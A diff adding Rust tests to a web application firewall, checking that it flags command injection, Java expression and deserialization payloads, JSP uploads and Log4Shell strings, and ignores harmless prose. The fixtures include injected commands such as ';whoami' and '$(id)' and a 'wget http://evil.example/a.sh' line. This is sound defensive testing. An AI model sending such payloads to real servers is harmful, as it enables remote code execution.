@@ -519,6 +519,99 @@ fn corpus_lines_as_fixtures() {
     }
 }
 
+#[test]
+fn rce_in_query_form_cookie_and_referer() {
+    let found = get("/ping", Some("host=127.0.0.1%3Bwhoami&x=1"));
+    assert_eq!(rules_and_fields(&found), vec![(RuleId::Rce, "query:host")]);
+    let found = post(
+        "application/x-www-form-urlencoded",
+        b"cmd=%7Cwhoami&note=cat+food",
+    );
+    assert_eq!(rules_and_fields(&found), vec![(RuleId::Rce, "form:cmd")]);
+    let found = with_headers(&[
+        ("Cookie", b"lang=en;x=$(id)"),
+        ("Referer", b"https://example.com/?q=1;ls%20-la"),
+    ]);
+    assert_eq!(
+        rules_and_fields(&found),
+        vec![(RuleId::Rce, "header:referer"), (RuleId::Rce, "cookie:x")]
+    );
+    // Prose with separators and command-like words is not command injection.
+    for q in [
+        "q=Tom+%26+Jerry%27s+pizza%3B+cat+food",
+        "q=select+a+plan",
+        "q=a%3B+b",
+    ] {
+        assert_eq!(get("/search", Some(q)), vec![], "{q}");
+    }
+}
+
+#[test]
+fn java_in_json_xml_headers_and_jsp_uploads() {
+    let found = post(
+        "application/json",
+        br#"{"name": "${T(java.lang.Runtime).getRuntime().exec('id')}"}"#,
+    );
+    assert_eq!(
+        rules_and_fields(&found),
+        vec![(RuleId::Java, "json:$.name")]
+    );
+    let found = post(
+        "application/xml",
+        b"<map><entry><java.lang.ProcessBuilder><command>id</command></java.lang.ProcessBuilder></entry></map>",
+    );
+    assert_eq!(rules_and_fields(&found), vec![(RuleId::Java, "body")]);
+    let found = with_headers(&[("X-Filename", b"shell.jsp"), ("X-Other", b"rO0ABXNy")]);
+    assert_eq!(
+        rules_and_fields(&found),
+        vec![
+            (RuleId::Java, "header:x-filename"),
+            (RuleId::Java, "header:x-other")
+        ]
+    );
+    // A JSP name is an upload only in a file-name field.
+    assert_eq!(get("/docs", Some("page=index.jsp")), vec![]);
+    // `${jndi:` stays Log4Shell's alone.
+    let found = get("/", Some("q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"));
+    assert_eq!(
+        rules_and_fields(&found),
+        vec![(RuleId::Log4shell, "query:q")]
+    );
+    assert_eq!(
+        get("/", Some("q=Runtime+error+in+java.lang+package")),
+        vec![]
+    );
+}
+
+#[test]
+fn memo_keeps_rce_and_java_verdicts_per_value() {
+    let ua: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64) memo-rce-java";
+    assert_eq!(with_headers(&[("User-Agent", ua)]), vec![]);
+    assert_eq!(with_headers(&[("User-Agent", ua)]), vec![]);
+    // A WAF with RCE off remembers less; one with it on still inspects what was not checked.
+    let no_rce = Waf::new(WafConfig {
+        rce: false,
+        ..WafConfig::default()
+    });
+    let attack: &[u8] = b"x; wget http://evil.example/a.sh";
+    if let Ok(w) = no_rce {
+        let req = RequestView {
+            method: "GET",
+            path: "/",
+            query: None,
+            headers: &[("User-Agent", attack)],
+            content_type: None,
+            body: b"",
+        };
+        assert_eq!(w.inspect(&req), vec![]);
+    }
+    let found = with_headers(&[("User-Agent", attack)]);
+    assert_eq!(
+        rules_and_fields(&found),
+        vec![(RuleId::Rce, "header:user-agent")]
+    );
+}
+
 /// Never panics, whatever the bytes: random paths, queries, headers and bodies of every
 /// content type, from a fixed-seed xorshift generator (reproducible, bounded count).
 #[test]
@@ -531,7 +624,8 @@ fn random_input_never_panics() {
         seed
     };
     // Bias towards the bytes that drive the parsers and decoders.
-    const SPECIAL: &[u8] = b"%&=;+/\\.<>\"'${}()-#:\x00\x0b\r\nuU0123456789abcdefjndi";
+    const SPECIAL: &[u8] =
+        b"%&=;+/\\.<>\"'${}()-#:\x00\x0b\r\nuU0123456789abcdefjndi|`?*,@^ catidlsjava.lang.rO0AB";
     let mut bytes = |len: usize| -> Vec<u8> {
         (0..len)
             .map(|_| {
@@ -550,6 +644,7 @@ fn random_input_never_panics() {
         "application/x-www-form-urlencoded",
         "multipart/form-data; boundary=%",
         "text/plain",
+        "application/xml",
     ];
     for i in 0..3_000 {
         let path = String::from_utf8_lossy(&bytes(i % 40)).into_owned();
@@ -565,6 +660,7 @@ fn random_input_never_panics() {
                 ("User-Agent", &header),
                 ("Cookie", &cookie),
                 ("X-Any", &header),
+                ("X-Filename", &header),
             ],
             content_type: Some(types[i % types.len()]),
             body: &body,
